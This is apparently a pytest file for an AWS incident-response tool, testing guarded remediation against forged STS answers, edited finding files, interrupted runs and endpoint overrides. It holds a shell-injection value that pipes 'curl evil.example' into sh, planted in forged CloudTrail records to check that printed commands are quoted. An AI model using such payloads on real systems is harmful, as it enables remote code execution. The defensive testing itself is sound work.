"""Guarded execution attacked again: a finding file edited after the verdict, an STS answer that
names no account, names in the suggested commands, an execution interrupted half-way, an endpoint
override that the account check does not vouch for.

Every AWS request goes through tests/fake_aws/proxy.py (to moto for IAM/STS), which counts them.
"""

from __future__ import annotations

import http.client
import json
import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import urlsplit

import pandas as pd
import pytest

from tests.actions.test_actions import (  # noqa: F401  (proxy_fixture: the fixture "proxy")
    FINDING,
    MOTO_ACCOUNT,
    SAMPLE_ACCOUNT,
    SUSPECT,
    iam_client,
    key,
    ops,
    proxy_fixture,
    run,
    sample_case_with,
)
from tests.fake_aws.proxy import HANG, FaultProxy
from torinvest.errors import EXIT_COULD_NOT_LOOK, EXIT_REFUSED
from torinvest.verdict import make_verdict, read_ledger, record_verdict

#: the runner's LookupEvents confirmations unpaced (quick_lookups, tests/conftest.py): these
#: tests are not about pacing
pytestmark = pytest.mark.usefixtures("quick_lookups")


def errors(err: str) -> list[str]:
    return [line for line in err.splitlines() if line.startswith("torinvest: error:")]


@pytest.fixture
def story(
    proxy: FaultProxy, moto: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> SimpleNamespace:
    """benjamin with the suspect key and a second (his everyday) key, in the finding's account;
    the case folder names the suspect key; a malicious verdict recorded over that case, naming
    the suspect key as `torinvest verdict --case` stores it."""
    monkeypatch.setenv("MOTO_ACCOUNT_ID", SAMPLE_ACCOUNT)
    iam = iam_client(moto)
    iam.create_user(UserName="benjamin")
    suspect = iam.create_access_key(UserName="benjamin")["AccessKey"]["AccessKeyId"]
    other = iam.create_access_key(UserName="benjamin")["AccessKey"]["AccessKeyId"]
    case = sample_case_with(tmp_path, {SUSPECT: suspect})
    ledger = tmp_path / "ledger.jsonl"
    record_verdict(
        make_verdict(
            FINDING,
            status="malicious",
            analyst="ana",
            rationale="read the activity",
            access_key_id=suspect,
            evidence={"reading": "complete"},
            now=pd.Timestamp("2024-01-01T00:00:00Z"),
        ),
        ledger,
    )
    proxy.clear()
    return SimpleNamespace(case=case, ledger=ledger, iam=iam, suspect=suspect, other=other)


def _edit_findings(case: Path, old: str, new: str) -> None:
    for f in (case / "findings").glob("*.json"):
        f.write_text(f.read_text().replace(old, new))


def _statuses(iam, user: str) -> dict[str, str]:  # type: ignore[no-untyped-def]
    keys = iam.list_access_keys(UserName=user)["AccessKeyMetadata"]
    return {k["AccessKeyId"]: k["Status"] for k in keys}


# --------------------------------------------------------------------------------------------
# the finding file edited after the verdict
# --------------------------------------------------------------------------------------------
def test_a_finding_file_edited_after_the_verdict_to_name_another_key_changes_nothing(
    proxy: FaultProxy, story: SimpleNamespace
) -> None:
    """Someone who can write in the case folder makes the finding name benjamin's everyday key:
    the verdict judged the suspect key, so --execute refuses before any call (was: the everyday
    key deactivated, the suspect one left active)."""
    _edit_findings(story.case, story.suspect, story.other)
    code, _out, err = run(
        "actions", FINDING, "--case", str(story.case), "--plan", "remediate", "--execute",
        "--ledger", str(story.ledger),
    )  # fmt: skip
    assert code == EXIT_REFUSED, err
    (line,) = errors(err)
    assert f"judged access key {story.suspect}" in line
    assert f"names access key {story.other}" in line and "nothing was called" in line
    assert ops(proxy) == []
    (refused,) = [r for r in read_ledger(story.ledger)[0] if r.get("phase") == "refused"]
    assert f"judged access key {story.suspect}" in refused["reason"]
    assert _statuses(story.iam, "benjamin") == {story.suspect: "Active", story.other: "Active"}
    # a dry run says --execute would be refused, and why
    code, _out, err = run(
        "actions", FINDING, "--case", str(story.case), "--plan", "remediate",
        "--ledger", str(story.ledger),
    )  # fmt: skip
    assert code == 0, err
    assert "--execute would be refused: the malicious verdict" in err
    assert f"judged access key {story.suspect}" in err


# --------------------------------------------------------------------------------------------
# STS answering an identity that does not hold together
# --------------------------------------------------------------------------------------------
class _Sts(ThreadingHTTPServer):
    """An endpoint that answers every GetCallerIdentity with ``account`` and ``arn`` (what a
    proxy, a stale local emulator or a forged endpoint could say) and passes every other request
    to ``upstream`` (the counting proxy)."""

    account = ""
    arn = ""
    calls = 0
    upstream = ""


class _StsHandler(BaseHTTPRequestHandler):
    server: _Sts

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        if b"Action=GetCallerIdentity" not in body:
            self._forward(body)
            return
        self.server.calls += 1
        body = (
            '<GetCallerIdentityResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/">'
            f"<GetCallerIdentityResult><Arn>{self.server.arn}</Arn><UserId>AIDAFORGED</UserId>"
            f"<Account>{self.server.account}</Account></GetCallerIdentityResult>"
            "<ResponseMetadata><RequestId>0f3c8a1e-2b7d-4c55-9d0e-7a1b2c3d4e5f</RequestId>"
            "</ResponseMetadata></GetCallerIdentityResponse>"
        ).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/xml")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _forward(self, body: bytes) -> None:
        up = urlsplit(self.server.upstream)
        conn = http.client.HTTPConnection(up.hostname, up.port, timeout=30)
        try:
            headers = {k: v for k, v in self.headers.items() if k.lower() != "host"}
            conn.request("POST", self.path, body=body, headers=headers)
            answer = conn.getresponse()
            data = answer.read()
            self.send_response(answer.status)
            for k, v in answer.getheaders():
                if k.lower() not in ("content-length", "transfer-encoding", "connection"):
                    self.send_header(k, v)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)
        finally:
            conn.close()

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def sts(proxy: FaultProxy, monkeypatch: pytest.MonkeyPatch) -> Iterator[_Sts]:
    """The fake STS endpoint, named by ``AWS_ENDPOINT_URL_STS`` (IAM's calls still go to the
    proxy: :func:`one_endpoint` sends them through it too)."""
    server = _Sts(("127.0.0.1", 0), _StsHandler)
    server.upstream = proxy.url
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    monkeypatch.setenv("AWS_ENDPOINT_URL_STS", f"http://127.0.0.1:{server.server_address[1]}")
    yield server
    server.shutdown()
    server.server_close()


def one_endpoint(sts: _Sts, monkeypatch: pytest.MonkeyPatch) -> None:
    """Every service's calls to the fake STS endpoint, which passes all but STS's on."""
    url = os.environ["AWS_ENDPOINT_URL_STS"]
    monkeypatch.setenv("AWS_ENDPOINT_URL", url)
    monkeypatch.setenv("AWS_ENDPOINT_URL_GUARDDUTY", url)


@pytest.mark.parametrize(
    ("account", "arn"),
    [
        (SAMPLE_ACCOUNT, "arn:aws:iam::999999999999:user/ops"),  # the ARN's account is another
        (SAMPLE_ACCOUNT, "not-an-arn"),
        (SAMPLE_ACCOUNT, "arn:aws:iam::123837392027"),  # no resource
        (SAMPLE_ACCOUNT[:-1], f"arn:aws:iam::{SAMPLE_ACCOUNT[:-1]}:user/ops"),  # 11 digits
        (f"{SAMPLE_ACCOUNT}0", f"arn:aws:iam::{SAMPLE_ACCOUNT}0:user/ops"),
    ],
)
def test_an_sts_identity_that_does_not_hold_together_changes_nothing(
    proxy: FaultProxy,
    story: SimpleNamespace,
    sts: _Sts,
    monkeypatch: pytest.MonkeyPatch,
    account: str,
    arn: str,
) -> None:
    """STS's answer is the only thing that says whose credentials these are: an Account that is
    not 12 digits, or an Arn that is no principal ARN of that account, is not an identity (was:
    an Account equal to the finding's let every change run whatever the Arn said)."""
    sts.account, sts.arn = account, arn
    one_endpoint(sts, monkeypatch)  # IAM goes where STS is asked: only the answer is at fault
    code, out, err = run(
        "actions", FINDING, "--case", str(story.case), "--plan", "remediate", "--execute",
        "--ledger", str(story.ledger),
    )  # fmt: skip
    assert code == EXIT_COULD_NOT_LOOK, err
    (line,) = errors(err)
    assert "could not tell whose credentials these are" in line
    assert "does not hold together" in line or "is not an account ID" in line
    assert sts.calls == 1 and ops(proxy) == []  # nothing but GetCallerIdentity
    assert _statuses(story.iam, "benjamin") == {story.suspect: "Active", story.other: "Active"}
    assert "Traceback" not in out + err


# --------------------------------------------------------------------------------------------
# names in the printed commands
# --------------------------------------------------------------------------------------------
EVIL = "fn;curl -s evil.example|sh #$(id)`id`"


def _forged(case: Path, name: str, source: str, params: dict[str, object]) -> None:
    record = {
        "eventVersion": "1.08",
        "userIdentity": {
            "type": "IAMUser",
            "accessKeyId": SUSPECT,
            "userName": "benjamin",
            "accountId": SAMPLE_ACCOUNT,
            "principalId": "AIDATFQR7NSC5U6Q3TMDR",
        },
        "eventTime": "2023-07-10T12:18:00Z",
        "eventSource": source,
        "eventName": name,
        "awsRegion": "us-east-1",
        "recipientAccountId": SAMPLE_ACCOUNT,
        "sourceIPAddress": "185.220.101.34",
        "userAgent": "aws-cli/2.13.0",
        "requestParameters": params,
        "responseElements": None,
        "eventID": f"forged-{name}",
        "eventType": "AwsApiCall",
    }
    (case / "cloudtrail" / f"forged-{name}.json").write_text(json.dumps({"Records": [record]}))


def test_names_from_forged_records_are_quoted_in_every_suggested_command(
    proxy: FaultProxy, tmp_path: Path
) -> None:
    """A Lambda function and statement named with shell syntax by a forged record in the case
    folder: every `aws …` command the plan prints — the step's own and the one its reason
    suggests (`aws lambda get-policy --function-name …`) — holds the name as one quoted word, so
    pasting it runs that command only (was: the reason's command carried it bare)."""
    case = sample_case_with(tmp_path, {})
    _forged(
        case,
        "AddPermission20150331v2",
        "lambda.amazonaws.com",
        {"functionName": EVIL, "statementId": EVIL, "action": "lambda:InvokeFunction"},
    )
    code, out, err = run("actions", FINDING, "--case", str(case), "--plan", "remediate")
    assert code == 0, err
    quoted = "'" + EVIL.replace("'", "'\"'\"'") + "'"
    assert f"(aws lambda get-policy --function-name={quoted})" in out
    assert f"--function-name={quoted} --statement-id={quoted}" in out
    for flag in ("--function-name", "--statement-id"):  # never a bare value after a flag
        assert f"{flag}={EVIL}" not in out and f"{flag} {EVIL}" not in out
    assert proxy.calls() == []


def test_the_dry_run_quotes_every_value_of_its_command_lines() -> None:
    """The class: every value of a plan's AWS CLI line is one shell word — a region (from a
    finding or an event), a user name, a policy document — whatever it holds."""
    from torinvest.actions import Action

    a = Action("guardduty", "ArchiveFindings", {"DetectorId": EVIL}, why="x", region=EVIL)
    quoted = "'" + EVIL + "'"
    assert f"--region={quoted}" in a.cli() and f"--detector-id={quoted}" in a.cli()
    assert a.cli().count(EVIL) == 2

    from torinvest.safety import cli_option

    assert cli_option("--user-name", "a\nb") == "--user-name='a\nb'"
    assert cli_option("--user-name", "it's") == "--user-name='it'\"'\"'s'"
    assert cli_option("--user-name", "svc-ops+x@y.z") == "--user-name=svc-ops+x@y.z"


# --------------------------------------------------------------------------------------------
# an execution interrupted half-way, then run again
# --------------------------------------------------------------------------------------------
WORKTREE = Path(__file__).resolve().parents[2]


def _action_records(ledger: Path) -> list[dict[str, object]]:
    return [r for r in read_ledger(ledger)[0] if r.get("kind") == "action"]


def _started(ledger: Path, operation: str) -> bool:
    return any(
        r.get("phase") == "start" and (r.get("action") or {}).get("operation") == operation  # type: ignore[union-attr]
        for r in _action_records(ledger)
    )


@pytest.mark.parametrize("how", [signal.SIGINT, signal.SIGKILL], ids=["ctrl-c", "killed"])
def test_an_execution_interrupted_half_way_is_said_by_the_next_run(
    proxy: FaultProxy, story: SimpleNamespace, how: signal.Signals
) -> None:
    """`actions --execute` interrupted while UpdateAccessKey is in flight (the request reached
    IAM, its answer had not come back): Ctrl-C records that call's outcome as unknown before it
    stops; a kill (or the machine stopping) leaves its start alone. Either way the next run says
    first which earlier run did not finish, how far it got and which change may have reached
    AWS, ledgers it, and checks before changing: the key reads 'already done', the rest is made
    once (was: the next run said nothing of the earlier one; Ctrl-C left no outcome)."""
    proxy.fault("UpdateAccessKey", HANG, times=1)
    argv = [
        sys.executable, "-m", "torinvest", "actions", FINDING, "--case", str(story.case),
        "--plan", "remediate", "--execute", "--ledger", str(story.ledger),
    ]  # fmt: skip
    env = {**os.environ, "PYTHONPATH": str(WORKTREE)}
    child = subprocess.Popen(
        argv,
        cwd=WORKTREE,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )
    try:
        for _ in range(1200):  # until the run waits on UpdateAccessKey's answer
            if _started(story.ledger, "UpdateAccessKey") or child.poll() is not None:
                break
            time.sleep(0.05)
        assert _started(story.ledger, "UpdateAccessKey"), child.communicate()
        time.sleep(0.3)  # the request is on its way: the proxy forwards it, then holds on
        child.send_signal(how)
        out, err = child.communicate(timeout=60)
    finally:
        proxy.release()
        if child.poll() is None:
            child.kill()
    first = _action_records(story.ledger)
    (update,) = [r for r in first if (r.get("action") or {}).get("operation") == "UpdateAccessKey"]  # type: ignore[union-attr]
    ended = [r for r in first if r.get("phase") == "outcome" and r.get("seq") == update["seq"]]
    if how == signal.SIGINT:
        assert child.returncode == 130, err
        (outcome,) = ended
        assert outcome["status"] == "unknown" and "interrupted" in str(outcome["note"])
        assert "OUTCOME UNKNOWN" in out and "torinvest: interrupted" in err
    else:
        assert ended == []  # nothing could be written: the next run must tell
    assert _statuses(story.iam, "benjamin")[story.suspect] == "Inactive"  # it reached IAM
    earlier_run = update["run_id"]
    proxy.clear()

    code, out, err = run(
        "actions", FINDING, "--case", str(story.case), "--plan", "remediate", "--execute",
        "--ledger", str(story.ledger),
    )  # fmt: skip
    assert code == 0, err
    (said,) = [line for line in out.splitlines() if line.startswith("EARLIER")]
    assert f"an earlier --execute run {earlier_run}" in said and "did not finish" in said
    assert f"account {SAMPLE_ACCOUNT}" in said
    if how == signal.SIGKILL:
        assert "iam:UpdateAccessKey was started and has no outcome" in said
        assert "may have reached AWS" in said and story.suspect in said
    assert any(line.startswith("  earlier: an earlier --execute run") for line in out.splitlines())
    # checked first, made once: the key is already inactive; no change is made twice
    assert ops(proxy, changes_only=True).count("UpdateAccessKey") == 0
    assert "already done" in out
    second = _action_records(story.ledger)[len(first) :]
    assert second[0]["earlier_unfinished"][0]["run_id"] == earlier_run  # type: ignore[index]
    # the run that finished closes the story: a third run says nothing of the first
    code, out, err = run(
        "actions", FINDING, "--case", str(story.case), "--plan", "remediate", "--execute",
        "--ledger", str(story.ledger),
    )  # fmt: skip
    assert code == 0, err
    assert "EARLIER" not in out and "earlier" not in out


# --------------------------------------------------------------------------------------------
# an endpoint override the account check does not see
# --------------------------------------------------------------------------------------------
def test_an_iam_endpoint_other_than_the_one_sts_is_asked_at_changes_nothing(
    proxy: FaultProxy, story: SimpleNamespace, sts: _Sts, monkeypatch: pytest.MonkeyPatch
) -> None:
    """STS (AWS_ENDPOINT_URL_STS) answers the finding's account, and IAM's calls go to another
    endpoint (AWS_ENDPOINT_URL_IAM): STS's answer says nothing of what answers there — a local
    emulator left configured says "done" while the real key stays active. Refused before any
    call, naming both endpoints and the variables (was: every change made there, "done")."""
    sts.account, sts.arn = SAMPLE_ACCOUNT, f"arn:aws:iam::{SAMPLE_ACCOUNT}:user/responder"
    monkeypatch.setenv("AWS_ENDPOINT_URL_IAM", proxy.url)
    code, _out, err = run(
        "actions", FINDING, "--case", str(story.case), "--plan", "remediate", "--execute",
        "--ledger", str(story.ledger),
    )  # fmt: skip
    assert code == EXIT_REFUSED, err
    (line,) = errors(err)
    assert f"the account check asks STS at {os.environ['AWS_ENDPOINT_URL_STS']}" in line
    assert "(AWS_ENDPOINT_URL_STS)" in line and "(AWS_ENDPOINT_URL_IAM)" in line
    assert f"iam calls go to {proxy.url}" in line and "nothing was called" in line
    assert "AWS_USE_FIPS_ENDPOINT" in line  # what to do
    assert sts.calls == 0 and ops(proxy) == []
    assert _statuses(story.iam, "benjamin") == {story.suspect: "Active", story.other: "Active"}
    (refused,) = [r for r in _action_records(story.ledger) if r.get("phase") == "refused"]
    assert "cannot vouch" in str(refused["reason"])
    # the dry run reads nothing where STS cannot vouch either, and says --execute would refuse
    code, _out, err = run(
        "actions", FINDING, "--case", str(story.case), "--plan", "remediate",
        "--ledger", str(story.ledger),
    )  # fmt: skip
    assert code == 0, err
    assert "--execute would be refused: the account check asks STS at" in err


def test_a_dry_run_reads_nothing_where_sts_cannot_vouch(
    proxy: FaultProxy, story: SimpleNamespace, sts: _Sts, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Online (no --case: the plan's reads would go to AWS), the inventory is not read at an
    IAM endpoint STS was not asked at: `(not run: endpoint not vouched for)`, never an inventory
    from something that may not be AWS."""
    from torinvest import actions as ac
    from torinvest import runner as rn
    from torinvest.aws import Aws

    sts.account, sts.arn = SAMPLE_ACCOUNT, f"arn:aws:iam::{SAMPLE_ACCOUNT}:user/responder"
    monkeypatch.setenv("AWS_ENDPOINT_URL_IAM", proxy.url)
    printed: list[str] = []
    plan = ac.plan_remediation(key(story.suspect, account=SAMPLE_ACCOUNT))
    report = rn.carry_out(Aws(), plan, echo=printed.append)
    assert sts.calls == 0 and ops(proxy) == []
    assert {r.status for r in report.results if not r.action.changes_aws} == {"not-run"}
    assert any("(not run: endpoint not vouched for)" in p for p in printed)
    (note,) = report.notes
    assert note.startswith("--execute would be refused: the account check asks STS at")


def test_rotation_commands_name_the_region_the_secret_was_read_in(
    proxy: FaultProxy, tmp_path: Path
) -> None:
    """Secrets Manager and SSM are regional: a rotation command without --region goes to the
    CLI's default region, where a same-named secret may be another one (given a new value by
    mistake, the one read left as it was). Each command names the event's region and the secret
    as quoted words; a region that is no region name is REGION to fill in, said (was: `aws
    secretsmanager put-secret-value` with neither the region nor the secret)."""
    case = sample_case_with(tmp_path, {})
    _forged(case, "GetSecretValue", "secretsmanager.amazonaws.com", {"secretId": EVIL})
    record = json.loads((case / "cloudtrail" / "forged-GetSecretValue.json").read_text())
    record["Records"][0]["awsRegion"] = "eu-west-1"
    (case / "cloudtrail" / "forged-GetSecretValue.json").write_text(json.dumps(record))
    _forged(case, "GetParameter", "ssm.amazonaws.com", {"name": "/prod/db/password"})
    record = json.loads((case / "cloudtrail" / "forged-GetParameter.json").read_text())
    record["Records"][0]["awsRegion"] = "US-EAST-1"
    (case / "cloudtrail" / "forged-GetParameter.json").write_text(json.dumps(record))
    code, out, err = run("actions", FINDING, "--case", str(case), "--plan", "remediate")
    assert code == 0, err
    quoted = "'" + EVIL + "'"
    (secret,) = [x for x in out.splitlines() if x.startswith("MANUAL") and "secret fn;" in x]
    assert f"put-secret-value --region=eu-west-1 --secret-id={quoted}" in secret
    assert f"rotate-secret --region=eu-west-1 --secret-id={quoted}" in secret
    (param,) = [x for x in out.splitlines() if x.startswith("MANUAL") and "/prod/db/pass" in x]
    assert "aws ssm put-parameter --region=REGION --name=/prod/db/password --overwrite" in param
    assert "the event names no usable region" in param
    assert proxy.calls() == []


# --------------------------------------------------------------------------------------------
# credentials refreshed mid-run into another account
# --------------------------------------------------------------------------------------------
def test_credentials_refreshed_into_another_account_mid_run_change_nothing_there(
    proxy: FaultProxy, moto: str, tmp_path: Path
) -> None:
    """The account check vouches for the credentials it was answered with: refreshable ones (an
    assumed role, SSO, a credential_process) that come back as another account's after it —
    here at the first change — would sign every later call there. The run keeps the credentials
    STS vouched for, frozen, for all its calls: the changes land in the finding's account only,
    and another account's same-named user gets no deny (was: the deny put on 999999999999's
    benjamin with the credentials refreshed after the check)."""
    import boto3
    from botocore.credentials import RefreshableCredentials

    from tests.actions.test_actions import key
    from torinvest import actions as ac
    from torinvest import runner as rn
    from torinvest.aws import Aws

    here = iam_client(moto)  # the finding's account: moto's default
    here.create_user(UserName="benjamin")
    suspect = here.create_access_key(UserName="benjamin")["AccessKey"]["AccessKeyId"]
    other = "999999999999"
    there = iam_client(moto, other)
    there.create_user(UserName="benjamin")
    minted = boto3.client("sts", endpoint_url=moto).assume_role(
        RoleArn=f"arn:aws:iam::{other}:role/drift", RoleSessionName="drift"
    )["Credentials"]
    switched = [False]

    def refresh() -> dict[str, str]:
        later = (pd.Timestamp.now(tz="UTC") + pd.Timedelta(minutes=1)).isoformat()
        if not switched[0]:
            return {
                "access_key": "testing",
                "secret_key": "testing",
                "token": "",
                "expiry_time": later,
            }
        return {
            "access_key": minted["AccessKeyId"],
            "secret_key": minted["SecretAccessKey"],
            "token": minted["SessionToken"],
            "expiry_time": later,
        }

    creds = RefreshableCredentials.create_from_metadata(refresh(), refresh, "drifting")
    aws = Aws()
    aws.session._session._credentials = creds  # every client signs with these, refreshed

    def echo(line: str) -> None:
        if line.startswith("EXECUTE"):
            switched[0] = True  # refreshed from here on: another account's credentials

    proxy.clear()
    plan = ac.plan_remediation(key(suspect, account=MOTO_ACCOUNT))
    report = rn.carry_out(aws, plan, execute=True, ledger=tmp_path / "l.jsonl", echo=echo)
    assert report.caller is not None and report.caller.account == MOTO_ACCOUNT
    assert ops(proxy).count("GetCallerIdentity") == 1
    assert _statuses(here, "benjamin")[suspect] == "Inactive"  # done where it was checked
    assert "AWSRevokeOlderSessions" in here.list_user_policies(UserName="benjamin")["PolicyNames"]
    assert there.list_user_policies(UserName="benjamin")["PolicyNames"] == []


# --------------------------------------------------------------------------------------------
# a ledger with two names
# --------------------------------------------------------------------------------------------
def test_a_hard_linked_ledger_takes_one_decision_lock_under_both_names(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A ledger hard-linked under a second name (a team folder, a backup tool's snapshot):
    a writer through one name holds the decision lock (a verdict's re-read-compare-append, an
    archive's last look and change) and a writer through the other must wait for it — as a
    writer through a symlink does (was: `<name>.lock` beside each name: two locks, no wait)."""
    import torinvest.verdict as ledger_module
    from torinvest.verdict import decision_lock

    first = tmp_path / "team" / "ledger.jsonl"
    first.parent.mkdir()
    record_verdict(
        make_verdict(FINDING, status="malicious", analyst="ana", rationale="read it"), first
    )
    second = tmp_path / "mine.jsonl"
    os.link(first, second)

    class WouldWait(Exception):
        pass

    def waiting(path: Path, lock: Path) -> None:
        raise WouldWait(str(path))

    monkeypatch.setattr(ledger_module, "_waiting", waiting)
    seen: list[str] = []

    def other_writer() -> None:
        try:
            with decision_lock(second):
                seen.append("entered")
        except WouldWait:
            seen.append("would wait")

    with decision_lock(first):
        t = threading.Thread(target=other_writer)
        t.start()
        t.join()
    assert seen == ["would wait"]
    with decision_lock(second):  # released: the other name takes it
        pass
